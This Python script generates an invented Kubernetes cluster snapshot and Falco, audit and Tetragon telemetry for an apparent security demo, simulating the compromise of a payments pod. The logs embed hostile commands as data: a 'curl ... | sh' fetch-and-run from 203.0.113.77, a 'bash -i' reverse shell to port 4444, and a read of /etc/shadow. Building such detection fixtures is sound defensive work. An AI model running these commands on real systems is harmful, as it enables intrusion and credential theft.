#!/usr/bin/env python3
"""Writes the demo's cluster snapshot and telemetry (deterministic).

The shapes follow the real upstream payloads in shared/data/telemetry:
`kubectl get ... -A -o json` (a v1 List), Falco's json_output lines,
audit.k8s.io/v1 Event lines and Tetragon's JSON export. The content is
invented for the demo. Run it from this folder: python3 generate.py
"""
import hashlib, json, base64
from datetime import datetime, timedelta, timezone

NOW = datetime(2026, 11, 30, 10, 0, 0, tzinfo=timezone.utc)
CLUSTER = "prod-eu-1"

def h(s, n=64):
    return hashlib.sha256(s.encode()).hexdigest()[:n]

def ts(dt, nanos=0):
    return dt.strftime("%Y-%m-%dT%H:%M:%S") + ".%09dZ" % nanos

def uid(s):
    x = h(s, 32)
    return f"{x[:8]}-{x[8:12]}-{x[12:16]}-{x[16:20]}-{x[20:32]}"

items = []
def meta(name, ns=None, labels=None, owner=None, extra=None):
    m = {"name": name, "uid": uid(f"{ns}/{name}"), "creationTimestamp": "2026-11-02T08:00:00Z"}
    if ns: m["namespace"] = ns
    if labels: m["labels"] = labels
    if owner: m["ownerReferences"] = [owner]
    if extra: m.update(extra)
    return m

namespaces = {
    "kube-system": {}, "falco": {"app.kubernetes.io/part-of": "falco"},
    "payments": {"team": "payments", "tier": "prod", "data-classification": "pii"},
    "storefront": {"team": "storefront", "tier": "prod"},
    "data": {"team": "data", "tier": "prod"},
    "monitoring": {"team": "platform"},
}
for ns, l in namespaces.items():
    l = dict(l); l["kubernetes.io/metadata.name"] = ns
    items.append({"apiVersion": "v1", "kind": "Namespace", "metadata": meta(ns, labels=l), "status": {"phase": "Active"}})

nodes = [
    ("ip-10-0-1-11", "general", None, False),
    ("ip-10-0-1-12", "general", None, False),
    ("ip-10-0-1-13", "general", None, False),
    ("ip-10-0-1-14", "general", None, True),   # cordoned for maintenance
    ("ip-10-0-2-21", "payments", "payments", False),
    ("ip-10-0-2-22", "payments", "payments", False),  # the compromised node
    ("ip-10-0-3-31", "data", "data", False),
]
for name, pool, taint, cordoned in nodes:
    spec = {"providerID": f"aws:///eu-west-1a/i-{h(name, 17)}"}
    if taint:
        spec["taints"] = [{"key": "dedicated", "value": taint, "effect": "NoSchedule"}]
    if cordoned:
        spec["unschedulable"] = True
        spec.setdefault("taints", []).append({"key": "node.kubernetes.io/unschedulable", "effect": "NoSchedule", "timeAdded": "2026-11-30T07:12:00Z"})
    items.append({"apiVersion": "v1", "kind": "Node",
        "metadata": meta(name, labels={"kubernetes.io/hostname": name, "kubernetes.io/os": "linux", "pool": pool,
                                        "topology.kubernetes.io/zone": "eu-west-1a", "node.kubernetes.io/instance-type": "m6i.xlarge"}),
        "spec": spec,
        "status": {"conditions": [{"type": "Ready", "status": "True", "reason": "KubeletReady", "lastHeartbeatTime": "2026-11-30T09:59:40Z"}],
                   "addresses": [{"type": "InternalIP", "address": name[3:].replace("-", ".")}, {"type": "Hostname", "address": name}],
                   "nodeInfo": {"kubeletVersion": "v1.34.2", "containerRuntimeVersion": "containerd://1.7.27", "osImage": "Amazon Linux 2023"}}})

pods = {}  # (ns, name) -> dict(node, cid, image)
def ctl(kind, name):
    return {"apiVersion": "apps/v1" if kind in ("ReplicaSet", "DaemonSet", "StatefulSet", "Deployment") else "batch/v1",
            "kind": kind, "name": name, "uid": uid(kind + name), "controller": True, "blockOwnerDeletion": True}

def workload(kind, ns, name, image, placements, labels=None, pool=None, sa=None, port=None):
    labels = labels or {"app": name}
    tmpl_spec = {"containers": [{"name": name, "image": image}]}
    if port: tmpl_spec["containers"][0]["ports"] = [{"containerPort": port}]
    if sa: tmpl_spec["serviceAccountName"] = sa
    if pool:
        tmpl_spec["nodeSelector"] = {"pool": pool}
        if pool != "general":
            tmpl_spec["tolerations"] = [{"key": "dedicated", "operator": "Equal", "value": pool, "effect": "NoSchedule"}]
    tmpl = {"metadata": {"labels": labels}, "spec": tmpl_spec}
    sel = {"matchLabels": labels}
    owner = None
    if kind == "Deployment":
        phash = h(ns + name + image, 10)
        phash = "".join(c if c not in "aeiou" else "7" for c in phash)
        rs = f"{name}-{phash}"
        items.append({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": meta(name, ns, labels), "spec": {"replicas": len(placements), "selector": sel, "template": tmpl}, "status": {"replicas": len(placements), "readyReplicas": len(placements)}})
        rl = dict(labels); rl["pod-template-hash"] = phash
        items.append({"apiVersion": "apps/v1", "kind": "ReplicaSet", "metadata": meta(rs, ns, rl, ctl("Deployment", name)), "spec": {"replicas": len(placements), "selector": {"matchLabels": rl}, "template": tmpl}, "status": {"replicas": len(placements)}})
        owner, prefix, plabels = ctl("ReplicaSet", rs), rs, rl
    elif kind == "StatefulSet":
        items.append({"apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": meta(name, ns, labels), "spec": {"replicas": len(placements), "selector": sel, "serviceName": name, "template": tmpl}})
        owner, prefix, plabels = ctl("StatefulSet", name), name, labels
    elif kind == "DaemonSet":
        items.append({"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": meta(name, ns, labels), "spec": {"selector": sel, "template": tmpl}})
        owner, prefix, plabels = ctl("DaemonSet", name), name, labels
    for i, node in enumerate(placements):
        if kind == "StatefulSet":
            pname = f"{prefix}-{i}"
        else:
            pname = f"{prefix}-{h(ns + name + str(i), 5)}"
        cid = h("cid" + pname)
        digest = "sha256:" + h("img" + image)
        spec = dict(tmpl_spec); spec["nodeName"] = node
        if kind == "DaemonSet":
            spec["tolerations"] = [{"operator": "Exists"}]
        items.append({"apiVersion": "v1", "kind": "Pod", "metadata": meta(pname, ns, plabels, owner),
            "spec": spec,
            "status": {"phase": "Running", "podIP": f"10.1.{len(pods) // 200}.{len(pods) % 200 + 10}", "hostIP": node[3:].replace("-", "."),
                       "containerStatuses": [{"name": name, "ready": True, "restartCount": 0, "image": image,
                                              "imageID": image.split(":")[0] + "@" + digest, "containerID": "containerd://" + cid,
                                              "state": {"running": {"startedAt": "2026-11-28T06:00:00Z"}}}]}})
        pods[(ns, pname)] = {"node": node, "cid": cid, "image": image, "digest": digest, "workload": name, "container": name}
    return labels

gen = ["ip-10-0-1-11", "ip-10-0-1-12", "ip-10-0-1-13"]
pay = ["ip-10-0-2-21", "ip-10-0-2-22"]
workload("Deployment", "payments", "payments-api", "registry.example.com/payments/api:2.14.0", ["ip-10-0-2-21", "ip-10-0-2-21", "ip-10-0-2-22"], pool="payments", sa="payments-api", port=8080)
workload("Deployment", "payments", "payments-worker", "registry.example.com/payments/worker:2.14.0", ["ip-10-0-2-22", "ip-10-0-2-21"], pool="payments", sa="payments-worker")
workload("StatefulSet", "payments", "ledger-db", "registry.example.com/payments/postgres:16.4", ["ip-10-0-2-21"], pool="payments")
workload("Deployment", "storefront", "web", "registry.example.com/storefront/web:5.2.1", ["ip-10-0-1-11", "ip-10-0-1-12", "ip-10-0-1-13"], pool="general", port=8080)
workload("Deployment", "storefront", "cart", "registry.example.com/storefront/cart:3.0.7", ["ip-10-0-1-12", "ip-10-0-1-13"], pool="general", port=9090)
workload("Deployment", "data", "etl-runner", "registry.example.com/data/etl:1.9.3", ["ip-10-0-3-31"], pool="data")
workload("Deployment", "monitoring", "prometheus", "quay.io/prometheus/prometheus:v3.5.0", ["ip-10-0-1-11"], pool="general")
workload("Deployment", "kube-system", "coredns", "registry.k8s.io/coredns/coredns:v1.12.1", ["ip-10-0-1-11", "ip-10-0-1-12"])
all_nodes = [n[0] for n in nodes]
workload("DaemonSet", "falco", "falco", "docker.io/falcosecurity/falco:0.42.1", all_nodes)
workload("DaemonSet", "kube-system", "tetragon", "quay.io/cilium/tetragon:v1.5.0", all_nodes)

for ns, name, sel, typ, port in [("payments", "payments-api", {"app": "payments-api"}, "ClusterIP", 8080),
                                 ("storefront", "web", {"app": "web"}, "LoadBalancer", 8080),
                                 ("storefront", "cart", {"app": "cart"}, "ClusterIP", 9090)]:
    items.append({"apiVersion": "v1", "kind": "Service", "metadata": meta(name, ns), "spec": {"type": typ, "selector": sel, "ports": [{"port": 80, "targetPort": port}]}})
for ns, name in [("payments", "payments-api"), ("payments", "payments-worker"), ("payments", "default"), ("storefront", "default"), ("data", "default")]:
    items.append({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta(name, ns)})

with open("inventory.json", "w") as f:
    json.dump({"apiVersion": "v1", "kind": "List", "metadata": {"resourceVersion": ""}, "items": items}, f, indent=2)
    f.write("\n")

# ---- telemetry -------------------------------------------------------------
def falco(at, rule, priority, output, pod=None, node=None, fields=None, source="syscall"):
    ns = nanos(at)
    of = {"evt.time": int(at.timestamp()) * 10**9 + ns}
    if pod:
        p = pods[pod]
        node = p["node"]
        repo, tag = p["image"].rsplit(":", 1)
        of.update({"k8s.ns.name": pod[0], "k8s.pod.name": pod[1], "container.id": p["cid"][:12], "container.name": p["container"],
                   "container.image.repository": repo, "container.image.tag": tag})
    of.update(fields or {})
    return {"hostname": node, "output": f"{at.strftime('%H:%M:%S')}.{ns:09d}: {priority} {output}", "output_fields": of,
            "priority": priority, "rule": rule, "source": source, "tags": ["container", "mitre_execution"], "time": ts(at, ns)}

def nanos(at):
    return int(h(at.isoformat(), 6), 16) % 10**9

falco_lines = []
# Heartbeats: Falco's metrics snapshot from every node, every 5 minutes.
for k in range(12, -1, -1):
    at = NOW - timedelta(minutes=5 * k, seconds=3)
    for n in all_nodes:
        ns = nanos(at)
        falco_lines.append({"hostname": n, "output": "Falco metrics snapshot", "output_fields": {"evt.hostname": n, "evt.source": "syscall", "evt.time": int(at.timestamp()) * 10**9 + ns, "falco.version": "0.42.1", "falco.num_evts": 1000000 + k, "scap.n_drops_perc": 0.0},
                            "priority": "Informational", "rule": "Falco internal: metrics snapshot", "source": "internal", "time": ts(at, ns)})
W = ("payments", [k for k in pods if k[0] == "payments" and pods[k]["workload"] == "payments-worker" and pods[k]["node"] == "ip-10-0-2-22"][0][1])
falco_lines += [
    falco(NOW - timedelta(minutes=14, seconds=12), "Terminal shell in container", "Notice",
          f"A shell was spawned in a container with an attached terminal (user=root user_loginuid=-1 process=bash parent=runc command=bash terminal=34816 k8s.ns={W[0]} k8s.pod={W[1]})",
          pod=W, fields={"proc.name": "bash", "proc.cmdline": "bash", "proc.pname": "runc", "user.name": "root", "proc.tty": 34816}),
    falco(NOW - timedelta(minutes=12, seconds=40), "Redirect STDOUT/STDIN to Network Connection in Container", "Critical",
          f"Redirect stdout/stdin to network connection (gparent=runc ggparent=containerd-shim fd.sip=203.0.113.77 connection=10.1.0.14:41522->203.0.113.77:4444 lport=41522 rport=4444 fd_type=ipv4 fd_proto=tcp evt_type=dup2 user=root process=bash command=bash -i k8s.ns={W[0]} k8s.pod={W[1]})",
          pod=W, fields={"proc.name": "bash", "proc.cmdline": "bash -i", "proc.exepath": "/bin/bash", "fd.rip": "203.0.113.77", "fd.rport": 4444, "evt.type": "dup2", "user.name": "root"}),
    falco(NOW - timedelta(minutes=11, seconds=5), "Launch Privileged Container", "Warning",
          "Privileged container started (user=root command=container:3ad7b26ded6d k8s.ns=payments k8s.pod=debug-tools image=docker.io/library/alpine:3.20)",
          node="ip-10-0-2-22", fields={"k8s.ns.name": "payments", "k8s.pod.name": "debug-tools", "container.privileged": "true", "container.image.repository": "docker.io/library/alpine", "container.image.tag": "3.20"}),
    falco(NOW - timedelta(minutes=9, seconds=30), "Read sensitive file untrusted", "Warning",
          f"Sensitive file opened for reading by non-trusted program (file=/etc/shadow process=cat k8s.ns={W[0]} k8s.pod={W[1]})",
          pod=W, fields={"proc.name": "cat", "fd.name": "/etc/shadow", "user.name": "root"}),
    # Noise elsewhere: a data-team node with its own trouble, and low findings on the general pool.
    falco(NOW - timedelta(minutes=20, seconds=8), "Drop and execute new binary in container", "Critical",
          "Executing binary not part of base image (proc_exe=/tmp/x7 proc_sname=sh k8s.ns=data)",
          pod=("data", [k for k in pods if k[0] == "data"][0][1]), fields={"proc.name": "x7", "proc.exepath": "/tmp/x7"}),
    falco(NOW - timedelta(minutes=25, seconds=51), "Contact K8S API Server From Container", "Notice",
          "Unexpected connection to K8s API Server from container (connection=10.1.0.22:51312->172.20.0.1:443 k8s.ns=storefront)",
          pod=("storefront", [k for k in pods if k[0] == "storefront" and pods[k]["workload"] == "cart"][0][1]), fields={"proc.name": "cart", "fd.rip": "172.20.0.1", "fd.rport": 443}),
    falco(NOW - timedelta(minutes=6, seconds=2), "Packet socket created in container", "Notice",
          "Packet socket was created in a container (k8s.ns=monitoring)",
          pod=("monitoring", [k for k in pods if k[0] == "monitoring"][0][1]), fields={"proc.name": "prometheus"}),
]
falco_lines.sort(key=lambda r: r["time"])
with open("telemetry/falco.jsonl", "w") as f:
    for r in falco_lines:
        f.write(json.dumps(r, separators=(",", ":")) + "\n")

def audit(at, verb, user, ns, resource, name, sub=None, code=200, groups=None, uri=None, level="Metadata", stage="ResponseComplete", req=None):
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": uid(at.isoformat() + name),
          "stage": stage, "requestURI": uri or f"/api/v1/namespaces/{ns}/{resource}/{name}" + (f"/{sub}" if sub else ""),
          "verb": verb, "user": {"username": user, "groups": groups or ["system:authenticated"]},
          "sourceIPs": ["10.0.0.57"], "userAgent": "kubectl/v1.34.2 (linux/amd64) kubernetes/9c71a4e",
          "objectRef": {"resource": resource, "namespace": ns, "name": name, "apiVersion": "v1"},
          "responseStatus": {"metadata": {}, "code": code},
          "requestReceivedTimestamp": at.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
          "stageTimestamp": (at + timedelta(milliseconds=37)).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
          "annotations": {"authorization.k8s.io/decision": "allow" if code < 400 else "forbid", "authorization.k8s.io/reason": ""}}
    if sub: ev["objectRef"]["subresource"] = sub
    if req: ev["requestObject"] = req
    return ev

audit_lines = [
    audit(NOW - timedelta(minutes=15, seconds=2), "create", "dev-contractor@example.com", W[0], "pods", W[1], sub="exec", code=101, stage="ResponseStarted",
          uri=f"/api/v1/namespaces/{W[0]}/pods/{W[1]}/exec?command=bash&container=payments-worker&stdin=true&stdout=true&tty=true"),
    audit(NOW - timedelta(minutes=13, seconds=30), "create", "dev-contractor@example.com", W[0], "pods", W[1], sub="exec", code=101, stage="ResponseStarted",
          uri=f"/api/v1/namespaces/{W[0]}/pods/{W[1]}/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2F203.0.113.77%2Fx.sh+%7C+sh&container=payments-worker&stdin=true&stdout=true"),
    audit(NOW - timedelta(minutes=8), "get", "system:serviceaccount:payments:payments-worker", "payments", "secrets", "ledger-db-credentials", code=403),
    audit(NOW - timedelta(minutes=3), "get", "system:serviceaccount:storefront:default", "storefront", "configmaps", "web-config", level="Metadata"),
    audit(NOW - timedelta(minutes=2), "patch", "argocd-application-controller", "storefront", "deployments", "cart", level="Metadata", uri="/apis/apps/v1/namespaces/storefront/deployments/cart"),
    audit(NOW - timedelta(minutes=1), "list", "system:serviceaccount:monitoring:prometheus", "monitoring", "pods", "", level="Metadata", uri="/api/v1/namespaces/monitoring/pods"),
]
for ev in audit_lines:
    if ev["objectRef"]["resource"] == "deployments":
        ev["objectRef"]["apiGroup"] = "apps"; ev["objectRef"]["apiVersion"] = "v1"
audit_lines.sort(key=lambda r: r["stageTimestamp"])
with open("telemetry/k8s-audit.jsonl", "w") as f:
    for r in audit_lines:
        f.write(json.dumps(r, separators=(",", ":")) + "\n")

def tetra(at, pod, binary, args, parent="/usr/bin/containerd-shim-runc-v2"):
    p = pods[pod]
    node = p["node"]
    ns = nanos(at)
    exec_id = base64.b64encode(f"{node}:{int(at.timestamp())}{ns}:{int(h(binary, 6), 16) % 90000}".encode()).decode()
    proc = {"exec_id": exec_id, "pid": 4000 + len(binary), "uid": 0, "cwd": "/", "binary": binary, "arguments": args, "flags": "execve",
            "start_time": ts(at, ns), "auid": 4294967295,
            "pod": {"namespace": pod[0], "name": pod[1], "container": {"id": "containerd://" + p["cid"], "name": p["container"],
                    "image": {"id": p["image"].rsplit(":", 1)[0] + "@" + p["digest"], "name": p["image"]}, "start_time": "2026-11-28T06:00:00Z", "pid": 1},
                    "workload": p["workload"], "workload_kind": "Deployment"},
            "docker": p["cid"][:31], "tid": 4000 + len(binary)}
    return {"process_exec": {"process": proc, "parent": {"binary": parent}}, "node_name": node, "time": ts(at, ns)}

tetra_lines = [
    tetra(NOW - timedelta(minutes=14, seconds=12), W, "/bin/bash", "", parent="/usr/bin/runc"),
    tetra(NOW - timedelta(minutes=13, seconds=29), W, "/usr/bin/curl", "-s http://203.0.113.77/x.sh", parent="/bin/sh"),
    tetra(NOW - timedelta(minutes=12, seconds=41), W, "/bin/bash", "-i", parent="/bin/sh"),
    tetra(NOW - timedelta(minutes=9, seconds=30), W, "/bin/cat", "/etc/shadow", parent="/bin/bash"),
]
for pod in sorted(pods):
    if pod[0] in ("storefront", "payments") and pods[pod]["workload"] in ("web", "cart", "payments-api"):
        tetra_lines.append(tetra(NOW - timedelta(minutes=4, seconds=len(pod[1])), pod, "/usr/local/bin/healthcheck", "--port 8080", parent="/usr/bin/containerd-shim-runc-v2"))
tetra_lines.sort(key=lambda r: r["time"])
with open("telemetry/tetragon.jsonl", "w") as f:
    for r in tetra_lines:
        f.write(json.dumps(r, separators=(",", ":")) + "\n")
print(f"inventory: {len(items)} objects; falco {len(falco_lines)}, audit {len(audit_lines)}, tetragon {len(tetra_lines)} lines")
